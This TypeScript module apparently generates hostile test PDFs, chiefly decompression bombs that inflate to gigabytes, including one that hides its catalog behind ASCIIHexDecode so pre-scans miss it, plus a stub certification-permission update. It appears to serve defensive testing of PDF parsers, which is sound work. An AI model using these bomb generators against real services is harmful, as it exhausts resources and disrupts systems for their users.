/**
 * Small hostile PDFs made on the fly: decompression bombs that are a few MB on disk and inflate to
 * gigabytes. Built byte by byte so that nothing but the file itself decides what a parser sees.
 */
import { Buffer } from 'node:buffer';
import { constants, deflateRawSync } from 'node:zlib';

const CHUNK = 64 * 1024 * 1024;
const ADLER_MOD = 65521;

/**
 * A zlib stream (RFC 1950) that inflates to `prefix` followed by `zeros` zero bytes (rounded down to
 * 64 MiB): one deflate block sequence for 64 MiB of zeros, repeated, then an empty final block and
 * the correct Adler-32, so even a strict inflater accepts it. About 1 KiB per 1 MiB of output.
 */
export function zlibBomb(zeros: number, prefix: Uint8Array = new Uint8Array(0)): Buffer {
  const head = deflateRawSync(prefix, { finishFlush: constants.Z_SYNC_FLUSH });
  const zeroBlocks = deflateRawSync(Buffer.alloc(CHUNK), { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  const repeats = Math.floor(zeros / CHUNK);
  let a = 1;
  let b = 0;
  for (const byte of prefix) {
    a = (a + byte) % ADLER_MOD;
    b = (b + a) % ADLER_MOD;
  }
  // Each zero byte leaves `a` as it is and adds it to `b`.
  b = (b + ((repeats * CHUNK) % ADLER_MOD) * a) % ADLER_MOD;
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE(((b << 16) | a) >>> 0);
  return Buffer.concat([Buffer.from([0x78, 0xda]), head, ...Array.from({ length: repeats }, () => zeroBlocks), Buffer.from([0x03, 0x00]), adler]);
}

class PdfWriter {
  private readonly parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  private length = this.parts[0]?.length ?? 0;
  readonly offsets = new Map<number, number>();

  add(data: string | Uint8Array): void {
    const buffer = typeof data === 'string' ? Buffer.from(data, 'latin1') : Buffer.from(data);
    this.parts.push(buffer);
    this.length += buffer.length;
  }

  object(number: number, body: string, stream?: Uint8Array): void {
    this.offsets.set(number, this.length);
    this.add(`${number} 0 obj\n${body}\n`);
    if (stream !== undefined) {
      this.add('stream\n');
      this.add(stream);
      this.add('\nendstream\n');
    }
    this.add('endobj\n');
  }

  get position(): number {
    return this.length;
  }

  bytes(): Buffer {
    return Buffer.concat(this.parts);
  }
}

/** A one-page PDF whose page content stream is `content`, compressed with `filter` (a PDF name or array). */
export function pdfWithContentStream(content: Uint8Array, filter: string): Buffer {
  const pdf = new PdfWriter();
  pdf.object(1, '<< /Type /Catalog /Pages 2 0 R >>');
  pdf.object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  pdf.object(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>');
  pdf.object(4, `<< /Length ${content.length} /Filter ${filter} >>`, content);
  const xref = pdf.position;
  const entries = [1, 2, 3, 4].map((n) => `${String(pdf.offsets.get(n)).padStart(10, '0')} 00000 n \n`).join('');
  pdf.add(`xref\n0 5\n0000000000 65535 f \n${entries}trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`);
  return pdf.bytes();
}

/** A one-page PDF whose page content is the array of `contents`, each compressed with `filter` (a PDF name or array). */
export function pdfWithContentStreams(contents: Uint8Array[], filter: string): Buffer {
  const pdf = new PdfWriter();
  const streamNumbers = contents.map((_, index) => 4 + index);
  pdf.object(1, '<< /Type /Catalog /Pages 2 0 R >>');
  pdf.object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  pdf.object(3, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents [${streamNumbers.map((n) => `${n} 0 R`).join(' ')}] >>`);
  contents.forEach((content, index) => pdf.object(4 + index, `<< /Length ${content.length} /Filter ${filter} >>`, content));
  const xref = pdf.position;
  const numbers = [1, 2, 3, ...streamNumbers];
  const entries = numbers.map((n) => `${String(pdf.offsets.get(n)).padStart(10, '0')} 00000 n \n`).join('');
  pdf.add(`xref\n0 ${numbers.length + 1}\n0000000000 65535 f \n${entries}trailer\n<< /Size ${numbers.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`);
  return pdf.bytes();
}

/**
 * A PDF whose catalog lives in an object stream that inflates to `zeros` bytes after the catalog,
 * behind `/Filter [/ASCIIHexDecode /FlateDecode]`, which a zlib pre-scan cannot see into: any
 * parser must inflate it to open the document.
 */
export function pdfWithHiddenObjectStreamBomb(zeros: number): Buffer {
  const catalog = '<< /Type /Catalog /Pages 2 0 R >>';
  const header = '1 0 ';
  const bomb = zlibBomb(zeros, Buffer.from(header + catalog, 'latin1'));
  const hex = Buffer.from(`${bomb.toString('hex')}>`, 'latin1');
  const pdf = new PdfWriter();
  pdf.object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  pdf.object(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>');
  pdf.object(5, `<< /Type /ObjStm /N 1 /First ${header.length} /Length ${hex.length} /Filter [/ASCIIHexDecode /FlateDecode] >>`, hex);
  const xrefOffset = pdf.position;
  // Cross-reference stream, /W [1 4 2]: type, offset or object stream number, generation or index.
  const row = (type: number, field: number, index: number): Buffer => {
    const entry = Buffer.alloc(7);
    entry.writeUInt8(type, 0);
    entry.writeUInt32BE(field, 1);
    entry.writeUInt16BE(index, 5);
    return entry;
  };
  const table = Buffer.concat([
    row(0, 0, 65535),
    row(2, 5, 0),
    row(1, pdf.offsets.get(2) ?? 0, 0),
    row(1, pdf.offsets.get(3) ?? 0, 0),
    row(1, xrefOffset, 0),
    row(1, pdf.offsets.get(5) ?? 0, 0),
  ]);
  pdf.object(4, `<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length ${table.length} >>`, table);
  pdf.add(`startxref\n${xrefOffset}\n%%EOF\n`);
  return pdf.bytes();
}

/**
 * `original` with one incremental update that gives its catalog `/Perms /DocMDP`: the mark of a
 * certification signature that forbids changes (ISO 32000-1 §12.8.2.2, /P 1). The signature
 * dictionary is a stand-in (no real CMS): what matters is how a sealer treats the permission.
 * @param catalog the catalog's object number and dictionary, as `qpdf --show-object` prints them
 * @param trailer the trailer dictionary, as `qpdf --show-object=trailer` prints it
 */
export function withDocMdpPermission(original: Buffer, catalog: { number: number; dictionary: string }, trailer: string): Buffer {
  const size = Number(/\/Size (\d+)/.exec(trailer)?.[1]);
  const previous = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(original.toString('latin1'))?.[1]);
  if (!Number.isInteger(size) || !Number.isInteger(previous)) throw new Error('Cannot read the trailer of the original.');
  const signature = size;
  const parts: Buffer[] = [original, Buffer.from('\n')];
  let position = original.length + 1;
  const offsets: [number, number][] = [];
  const add = (number: number, body: string): void => {
    offsets.push([number, position]);
    const text = Buffer.from(`${number} 0 obj\n${body}\nendobj\n`, 'latin1');
    parts.push(text);
    position += text.length;
  };
  add(catalog.number, catalog.dictionary.replace(/>>\s*$/, ` /Perms << /DocMDP ${signature} 0 R >> >>`));
  add(signature, '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 0 0 0] /Contents <00> ' +
    '/Reference [ << /Type /SigRef /TransformMethod /DocMDP /TransformParams << /Type /TransformParams /P 1 /V /1.2 >> >> ] >>');
  const sections = offsets.map(([number, offset]) => `${number} 1\n${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const root = /\/Root \d+ \d+ R/.exec(trailer)?.[0] ?? '';
  parts.push(Buffer.from(`xref\n0 1\n0000000000 65535 f \n${sections}trailer\n<< /Size ${size + 1} ${root} /Prev ${previous} >>\nstartxref\n${position}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}
